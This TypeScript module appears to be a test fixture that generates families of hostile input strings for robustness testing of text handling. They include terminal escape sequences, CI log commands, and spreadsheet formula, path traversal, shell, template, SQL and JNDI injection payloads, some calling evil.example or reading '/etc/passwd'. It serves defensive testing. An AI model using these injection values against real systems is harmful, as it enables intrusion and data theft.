import { markdown, markup } from './hostile-markup';

/** One string of a family: what it tries, and the text. */
type Hostile = readonly [attempt: string, text: string];

const hex = (text: string): string =>
  [...text].map((character) => `U+${character.codePointAt(0)!.toString(16).padStart(4, '0')}`).join(' ');
const codePoints = (...ranges: readonly (readonly [from: number, to: number])[]): string[] =>
  ranges.flatMap(([from, to]) =>
    Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index)),
  );
const each = (family: string, texts: readonly string[]): Hostile[] =>
  texts.map((text, index) => [`${family} ${index + 1}`, text]);
const pairs = <A, B, C>(some: readonly A[], others: readonly B[], join: (a: A, b: B) => C): C[] =>
  some.flatMap((a) => others.map((b) => join(a, b)));

const ESC = '\u001b';
const urlEncoded = (text: string): string => encodeURIComponent(text);
const htmlEncoded = (text: string): string => text.replace(/[<>"'&]/g, (character) => `&#${character.charCodeAt(0)};`);
const unicodeEscaped = (text: string): string =>
  text.replace(/[<>"'&]/g, (character) => `\\u00${character.charCodeAt(0).toString(16)}`);

/** Each C0, DEL and C1 control, in the middle of a word and at both of its ends. */
const controls = codePoints([0x00, 0x1f], [0x7f, 0x9f]).map(
  (control): Hostile => [`control ${hex(control)}`, `${control}pas${control}sed${control}`],
);

/** Characters that turn, join, hide or fill text and are not seen themselves. */
const invisible = codePoints(
  ...([
    [0x00ad, 0x00ad],
    [0x034f, 0x034f],
    [0x061c, 0x061c],
    [0x115f, 0x1160],
    [0x17b4, 0x17b5],
    [0x180b, 0x180f],
    [0x200b, 0x200f],
    [0x2028, 0x202e],
    [0x2060, 0x206f],
    [0x3164, 0x3164],
    [0xfe00, 0xfe0f],
    [0xfeff, 0xfeff],
    [0xffa0, 0xffa0],
    [0xfff9, 0xfffb],
    [0xe0001, 0xe0001],
    [0xe0020, 0xe0024],
    [0x1d173, 0x1d176],
  ] as const),
).map((character): Hostile => [`invisible ${hex(character)}`, `a${character}b`]);

const terminal = [
  ...each(
    'CSI',
    pairs(
      ['', '1', '2', '31;1', '38;5;9', '?25', '?1049', '>0', '=1', '99999'],
      [...'AHJKSThlmnrsu'],
      (parameters, end) => `a${ESC}[${parameters}${end}b`,
    ),
  ),
  ...each(
    'OSC',
    pairs(
      [
        '0;owned',
        '4;1;#000000',
        '7;file:///etc',
        '8;;https://evil.example',
        '9;owned',
        '52;c;ZXZpbA==',
        '133;A',
        '777;notify;a;b',
        '1337;File=:AAAA',
      ],
      ['\u0007', `${ESC}\\`, '\u009c', ''],
      (body, end) => `${ESC}]${body}${end}x`,
    ),
  ),
  ...each(
    'escape',
    [...'c78=>DEHMNOZ6<|}~'].map((letter) => `a${ESC}${letter}b`),
  ),
  ...each(
    'string sequence',
    [...'PX^_k'].map((letter) => `${ESC}${letter}payload${ESC}\\`),
  ),
];

const commands = [
  ...each(
    'workflow command',
    pairs(
      [
        'error',
        'warning',
        'notice',
        'debug',
        'group',
        'endgroup',
        'add-mask',
        'set-output name=a',
        'save-state name=a',
        'add-path',
        'set-env name=a',
        'stop-commands',
        'echo',
        'add-matcher',
      ],
      ['', '  ', 'x\n', 'x\r', 'x\u2028'],
      (command, before) => `${before}::${command}::owned`,
    ),
  ),
  ...each(
    'log command',
    pairs(
      ['error', 'warning', 'section', 'group', 'endgroup', 'command', 'debug'],
      ['', 'text ', 'x\n'],
      (name, before) => `${before}##[${name}]owned`,
    ),
  ),
  ...each(
    'Azure command',
    [
      'task.complete result=Succeeded;',
      'task.setvariable variable=a;issecret=true',
      'task.uploadfile',
      'artifact.upload',
      'build.addbuildtag',
    ].map((command) => `##vso[${command}]owned`),
  ),
  ...each(
    'TeamCity command',
    ["buildStatus status='SUCCESS'", "testFinished name='a'", "publishArtifacts '/etc/passwd'"].map(
      (command) => `##teamcity[${command}]`,
    ),
  ),
  ...each('attachment of a CI server', [
    '[[ATTACHMENT|/etc/passwd]]',
    '[[ATTACHMENT|../../key.txt]]',
    'x [[ATTACHMENT|C:\\key.txt]] y',
  ]),
  ...each('section of GitLab', ['section_start:1700000000:a\r\u001b[0Kowned', 'section_end:1700000000:a\r\u001b[0K']),
];

const elsewhere = [
  ...each(
    'formula',
    pairs(
      ['=', '+', '-', '@', '\t=', '\r=', '|', '%0A='],
      ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example","a")', '1+1'],
      (sign, rest) => sign + rest,
    ),
  ),
  ...each(
    'path',
    pairs(
      ['../', '..\\', '/', '//host/share/', '\\\\host\\share\\', 'C:\\', '~/', './', '%2e%2e%2f', '....//', 'file:///'],
      ['etc/passwd', 'run.json', '.env\u0000.txt'],
      (before, name) => before + name,
    ),
  ),
  ...each('file name', [
    'CON',
    'NUL.txt',
    'a:b',
    'a*b?c',
    'name.',
    ' name ',
    '-rf',
    '.',
    '..',
    '.git/config',
    'a'.repeat(300),
  ]),
  ...each('name of a property', [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'length',
    'then',
  ]),
  ...each('value', [
    'null',
    'undefined',
    'true',
    'false',
    'NaN',
    'Infinity',
    '-0',
    '1e309',
    '0x1F',
    '9007199254740993',
    '1/0',
    '∞',
    '[]',
    '{}',
    '""',
    "''",
  ]),
  ...each('shell', [
    '$(id)',
    '`id`',
    '; id',
    '| id',
    '&& id',
    '> /tmp/a',
    '$IFS',
    '$\u007bHOME}',
    '!!',
    "'; id; '",
    '"; id; "',
    '\nid\n',
    '*',
    "$'\\x41'",
  ]),
  ...each('template', [
    '{{constructor.constructor("alert(1)")()}}',
    '$\u007b7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{% include "a" %}',
    '%(a)s',
    '%s%s%s%n',
    '{0}',
    "$&$1$`$'",
    '{{accessToken}}',
    '\\0\\1',
  ]),
  ...each('query', ["' OR 1=1 --", '1; DROP TABLE cases', '{"$ne":null}', '*)(uid=*))(|(uid=*', "' || 1==1 //"]),
  ...each('JSON', [
    '"},"verdict":"passed","a":{"',
    '\\"',
    '\\',
    '\\u0000',
    '\n{"type":"run-finished","durationMs":0}\n',
    '/* */',
    '{"a":'.repeat(50),
    '['.repeat(200),
  ]),
  ...each('jndi', ['$\u007bjndi:ldap://evil.example/a}', '$\u007benv:IMBURSE_PRIVATE_KEY}', '$\u007bsys:user.home}']),
  ...each('surrogates', ['\ud800', '\udfff', 'a\ud83d', '\ude00a', '\ud83d\ud83d\ude00', '\udc00\ud800\udc00']),
  ...each('noncharacter', ['\ufdd0', '\ufdef', '\ufffe', '\uffff', '\u{1fffe}', '\u{10ffff}', '\u{f0000}', '\ue000']),
  ...each('script', [
    'الكلّ في المجمو عة',
    'สวัสดี',
    '田中さんにあげて下さい',
    '𝒯𝒽𝑒 𝓺𝓾𝓲𝓬𝓴',
    'İıŞş',
    'ß',
    'ǅ',
    'ﷺ',
    'A\u030a\u0301'.repeat(20),
    'T̫̺̳o̬̜ ì̬͎̲̟nv̖̗̻̣̹̕o͖̗̠̜̤k͍͚̹͖̼e̦̗̪͍̪͍',
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    '👨‍❤️‍💋‍👨',
    '🇺🇸🇷🇺',
    '１２３',
    '（╯°□°）╯︵ ┻━┻',
  ]),
  ...each('white space', ['\u00a0', '\u2003a\u2003', '\u3000', '\u1680', 'a\u202fb', '\ta\t', '\n\n\n', '\r\n\r\n']),
];

/** Hostile strings made by rule rather than by hand: what a server may send, by what it tries. */
export const hostileFamilies: readonly Hostile[] = [
  ...controls,
  ...invisible,
  ...terminal,
  ...commands,
  ...each('markup', markup),
  ...each('markup, in a URL', markup.slice(0, 12).map(urlEncoded)),
  ...each('markup, in entities', markup.slice(0, 12).map(htmlEncoded)),
  ...each('markup, in escapes', markup.slice(0, 12).map(unicodeEscaped)),
  ...each('Markdown', markdown),
  ...elsewhere,
];
